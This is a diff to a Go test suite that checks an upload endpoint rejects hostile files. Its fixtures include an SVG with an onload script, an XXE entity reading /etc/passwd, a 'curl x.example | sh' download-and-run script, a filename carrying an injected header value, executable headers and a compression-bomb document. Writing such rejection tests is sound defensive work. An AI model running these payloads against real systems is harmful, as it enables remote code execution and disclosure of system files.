@@ -92,6 +92,8 @@ func TestHostileUploads(t *testing.T) {
 			"a page that is called a picture":        {"a.png", "RESOURCE", []byte(page), 415, "UNSUPPORTED_MEDIA_TYPE"},
 			"a vector picture":                       {"a.svg", "RESOURCE", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
 			"a vector picture as an avatar":          {"a.png", "AVATAR", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
+			"a script":                               {"a.txt", "RESOURCE", []byte("#!/bin/sh\ncurl x.example | sh\n"), 415, "UNSUPPORTED_MEDIA_TYPE"},
+			"a vector picture that hides its name":   {"a.txt", "RESOURCE", []byte("<svg onload=alert(1)>"), 415, "UNSUPPORTED_MEDIA_TYPE"},
 			"XML":                                    {"a.xml", "RESOURCE", []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
 			"a program":                              {"a.pdf", "RESOURCE", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 300)...), 415, "UNSUPPORTED_MEDIA_TYPE"},
 			"a program of Windows":                   {"a.txt", "RESOURCE", append([]byte("MZ\x90\x00"), make([]byte, 300)...), 415, "UNSUPPORTED_MEDIA_TYPE"},
@@ -153,6 +155,7 @@ func TestHostileUploads(t *testing.T) {
 		if places, rows := stays(w.T, w); places != 0 || rows != 0 {
 			w.T.Errorf("%d places and %d rows stay", places, rows)
 		}
+		ada = w.Member("bea")
 		w.T.Run("a name cannot disguise content, and is shown as it is", func(t *testing.T) {
 			for sent, want := range map[string]string{
 				"page.html":                       "page.html.txt",
@@ -161,7 +164,7 @@ func TestHostileUploads(t *testing.T) {
 				`a"; filename="b.html.txt`:        `a"; filename="b.html.txt`,
 				strings.Repeat("ä", 250) + ".csv": strings.Repeat("ä", 196) + ".csv",
 			} {
-				r := upload(t, w, ada.Token(), called(sent, "RESOURCE"), strings.NewReader("<b>text"))
+				r := upload(t, w, ada.Token(), called(sent, "RESOURCE"), strings.NewReader("plain text"))
 				if r.field("name") != want {
 					t.Errorf("%q became %s", sent, r.body)
 				}
@@ -184,8 +187,11 @@ func TestHostileUploads(t *testing.T) {
 			z := zip.NewWriter(&b)
 			for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml"} {
 				f, _ := z.Create(name)
+				_, _ = io.WriteString(f, "<a/>")
 				for range 64 {
-					_, _ = f.Write(make([]byte, 1<<20))
+					if name == "word/document.xml" {
+						_, _ = f.Write(make([]byte, 1<<20))
+					}
 				}
 			}
 			_ = z.Close()
